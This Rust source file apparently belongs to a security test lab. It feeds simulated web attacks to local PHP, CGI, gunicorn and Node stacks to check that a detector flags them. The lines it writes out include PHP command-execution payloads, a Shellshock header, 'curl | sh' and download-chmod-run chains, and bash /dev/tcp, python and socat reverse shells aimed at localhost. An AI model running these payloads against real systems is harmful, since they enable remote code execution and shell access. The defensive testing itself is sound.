//! M01 to M06, M20 and M21: pages and CGI programs that run something.

use super::{
    Attack, Claim, HOSTILE, NETWORK, ONE_LINER, RECON, SHELL, Stack, Turn, WRITTEN, attack, page,
    pages,
};
use crate::{
    fixture::http,
    lab::turn::{encoded, here},
};

pub(super) fn all() -> Vec<Attack> {
    let mut all = vec![
        page(
            "M01",
            Stack::Php,
            "system()",
            SHELL,
            "system(\"id; : $mark\");",
        ),
        page("M01", Stack::Php, "exec()", SHELL, "exec(\"id; : $mark\");"),
        page(
            "M01",
            Stack::Php,
            "shell_exec()",
            SHELL,
            "shell_exec(\"id; : $mark\");",
        ),
        page(
            "M01",
            Stack::Php,
            "popen()",
            SHELL,
            "pclose(popen(\"id; : $mark\", 'r'));",
        ),
        page("M01", Stack::Php, "backticks", SHELL, "echo `id; : $mark`;"),
        page(
            "M04",
            Stack::ModPhp,
            "system()",
            SHELL,
            "system(\"id; : $mark\");",
        ),
        page(
            "M04",
            Stack::ModPhp,
            "backticks",
            SHELL,
            "echo `whoami; : $mark`;",
        ),
        attack(
            "M03",
            Stack::Php,
            "a worker becomes a shell, no fork",
            "worker_replaced_itself",
            |turn| {
                turn.page(
                    "$c = FFI::cdef('int execl(const char *, ...);', 'libc.so.6');
$c->execl('/bin/sh', 'sh', '-c', \": $mark\", null);",
                );
                turn.claim()
            },
        ),
    ];
    for stack in [Stack::Php, Stack::ModPhp] {
        all.push(attack(
            "M02",
            stack,
            "proc_open([id]), no shell",
            RECON,
            |turn| Claim::Below(turn.spawn(&["id", "-u"]).pid()),
        ));
    }
    all.extend(cgi());
    all.extend(pages(
        "M21",
        "curl | sh",
        HOSTILE,
        "file_put_contents(\"$site/fetched.txt\", ': fetched');
system(\"curl -s http://127.0.0.1:{$_SERVER['SERVER_PORT']}/fetched.txt | sh # $mark\");",
    ));
    all.push(page(
        "M21",
        Stack::Php,
        "curl -o, chmod, run",
        WRITTEN,
        "
file_put_contents(\"$site/fetched.txt\", \"#!/bin/sh\\n: fetched\\n\");
run(['curl', '-s', '-o', \"$own/x\", \"http://127.0.0.1:{$_SERVER['SERVER_PORT']}/fetched.txt\"]);
run(['chmod', '755', \"$own/x\"]); run([\"$own/x\"]);",
    ));
    all.extend(reverse());
    all
}

fn cgi() -> Vec<Attack> {
    const SHOCK: &str = "shellshock_environment";
    let run = |turn: &Turn<'_>| {
        turn.get(&format!("/cgi-bin/id.cgi?{}", turn.mark));
        turn.claim()
    };
    let asked = |turn: &Turn<'_>| {
        let agent = turn.fill("() { :; }; : MARK");
        let port = turn.stacks.port(turn.stack);
        http::get_as(port, "/cgi-bin/id.cgi", &agent).expect("an answer");
        turn.claim()
    };
    vec![
        attack("M05", Stack::ModPhp, "CGI program of a worker", SHELL, run),
        attack("M05", Stack::ModPhp, "shellshock", SHOCK, asked),
        attack(
            "M05",
            Stack::Cgid,
            "CGI program among uploads",
            "cgi_ran_unknown_script",
            |turn| {
                let answer = turn.get("/uploads/id.cgi");
                assert!(answer.contains("uid="), "{answer}");
                Claim::Says(turn.stacks.place("cgid/uploads").display().to_string())
            },
        ),
        attack("M05", Stack::Cgid, "shellshock", SHOCK, asked),
        attack(
            "M05",
            Stack::Lighttpd,
            "CGI program",
            "edge_server_executed_program",
            run,
        ),
        attack(
            "M06",
            Stack::Fcgiwrap,
            "CGI program among uploads",
            "cgi_ran_unknown_script",
            |turn| {
                let answer = turn.get("/uploads/id.cgi");
                assert!(answer.contains("uid="), "{answer}");
                Claim::Says(
                    turn.stacks
                        .place("fcgiwrap/www/uploads")
                        .display()
                        .to_string(),
                )
            },
        ),
    ]
}

/// Nobody listens where they connect to, which is this machine itself.
fn reverse() -> Vec<Attack> {
    const BASH: &str = "bash -c 'exec 5<>/dev/tcp/HERE/1 && bash -i <&5 >&5' # MARK";
    const PYTHON: &str = "import socket; socket.create_connection((\"HERE\", 1)) # MARK";
    let line = |turn: &Turn<'_>, text: &str| turn.fill(text).replace("HERE", &here());
    let by_page = move |turn: &Turn<'_>| {
        let line = line(turn, BASH).replace('\'', "\\'");
        turn.page(&format!("system('{line}');"));
        turn.claim()
    };
    vec![
        attack(
            "M20",
            Stack::Php,
            "reverse shell: bash, /dev/tcp",
            HOSTILE,
            by_page,
        ),
        attack(
            "M20",
            Stack::ModPhp,
            "reverse shell: the shell's connect",
            "shell_connects_out",
            by_page,
        ),
        attack(
            "M20",
            Stack::Php,
            "reverse shell: python, by an argument",
            ONE_LINER,
            move |turn| {
                turn.spawn(&["python3", "-c", &line(turn, PYTHON)]);
                turn.claim()
            },
        ),
        attack(
            "M20",
            Stack::Gunicorn,
            "reverse shell: bash, /dev/tcp",
            HOSTILE,
            move |turn| {
                turn.get(&format!("/sh/{}", encoded(&line(turn, BASH))));
                turn.claim()
            },
        ),
        attack(
            "M20",
            Stack::Node,
            "reverse shell: bash, /dev/tcp",
            HOSTILE,
            move |turn| {
                turn.get(&format!("/sh/{}", encoded(&line(turn, BASH))));
                turn.claim()
            },
        ),
        attack("M20", Stack::Php, "reverse shell: socat", NETWORK, |turn| {
            turn.spawn(&["socat", "tcp:127.0.0.1:1", "exec:sh -c ': MARK'"]);
            turn.claim()
        }),
    ]
}
